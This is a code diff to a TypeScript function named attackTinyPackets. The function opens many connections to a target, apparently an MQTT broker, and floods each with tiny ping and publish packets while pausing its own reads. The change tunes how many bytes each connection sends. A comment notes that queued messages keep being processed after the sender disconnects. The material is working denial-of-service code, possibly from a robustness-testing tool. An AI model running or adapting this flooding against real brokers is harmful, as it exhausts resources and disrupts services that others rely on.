@@ -180,14 +180,19 @@ export async function attackTinyPackets(
   const counts = { connections: 0, bytes: 0 };
   const ping = Buffer.alloc(60_000, packetBytes({ cmd: 'pingreq' }, 4));
   const tiny = Buffer.alloc(60_000, publishBytes('t', '', 4));
-  const share = (target.bytes ?? 60_000_000) / 8;
+  // Messages are worked off even when their sender is gone: 30,000 on each connection are enough.
+  const shares = [(target.bytes ?? 60_000_000) / 8, 150_000];
   const flood = async (index: number) => {
     const session = await openSession(target, connectBytes(`tiny-${index}`, 4));
     if (session === undefined) return;
     counts.connections += 1;
     session.socket.pause();
     const until = performance.now() + 2500;
-    for (let sent = 0; sent < share && !session.isClosed && performance.now() < until; sent += ping.length) {
+    for (
+      let sent = 0;
+      sent < (shares[index % 2] ?? 0) && !session.isClosed && performance.now() < until;
+      sent += ping.length
+    ) {
       counts.bytes += ping.length;
       await Promise.race([writeAll(session, index % 2 === 0 ? ping : tiny), pause(500)]);
     }
